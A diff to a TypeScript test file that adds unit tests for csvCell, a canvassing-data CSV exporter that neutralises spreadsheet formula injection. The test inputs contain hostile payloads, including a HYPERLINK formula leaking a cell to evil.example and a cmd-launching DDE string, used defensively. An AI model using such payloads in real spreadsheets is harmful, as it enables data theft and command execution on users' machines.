@@ -5,6 +5,36 @@ import { DEMO_USERS } from '@/lib/sandbox/seed/seed';
 import { inProcessPolis } from '@/lib/testing/in-process-polis';
 import { csvCell, exportInteractionsCsv } from './export-csv';
 
+describe('csvCell', () => {
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['+1+cmd', "'+1+cmd"],
+    ['-1+HYPERLINK("http://evil.example/?x="&B2,"x")', `"'-1+HYPERLINK(""http://evil.example/?x=""&B2,""x"")"`],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+    ['-1e3', "'-1e3"],
+    ['-1.5.2', "'-1.5.2"],
+    ['\t=1', "'\t=1"],
+  ])('keeps a spreadsheet from running %s as a formula', (input, expected) => {
+    expect(csvCell(input)).toBe(expected);
+  });
+
+  it.each([
+    ['-0.25', '-0.25'],
+    ['-12', '-12'],
+    [-3.5, '-3.5'],
+    [42, '42'],
+    ['plain text', 'plain text'],
+    [null, ''],
+  ])('leaves %s, which is exactly a number or plain text, as it is', (input, expected) => {
+    expect(csvCell(input)).toBe(expected);
+  });
+
+  it('quotes commas, quotes and line breaks as RFC 4180 says', () => {
+    expect(csvCell('a, "b"\nc')).toBe('"a, ""b""\nc"');
+  });
+});
+
 /** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks. */
 function parseCsv(text: string): string[][] {
   const rows: string[][] = [];
@@ -56,12 +86,5 @@ describe('the CSV export', () => {
     expect(header).toEqual(['Interaction id', 'Time (UTC)', 'Contact', 'Address', 'Canvasser', 'List', 'Outcome', 'Unavailable reason', 'Distance (miles)', 'GPS accuracy (m)', 'Latitude', 'Longitude', ...questionTexts]);
     expect(new Set(rows.map((row) => row[6]))).toEqual(new Set(['Successful']));
     expect(rows.every((row) => row.length === header!.length)).toBe(true);
-  });
-
-  it('quotes what would split a cell and defuses what a spreadsheet would run as a formula', () => {
-    expect(csvCell('12 Main St, Apt "B"')).toBe('"12 Main St, Apt ""B"""');
-    expect(csvCell('=HYPERLINK("http://x")')).toBe(`"'=HYPERLINK(""http://x"")"`);
-    expect(csvCell('-0.5')).toBe('-0.5');
-    expect(csvCell(null)).toBe('');
   });
 });
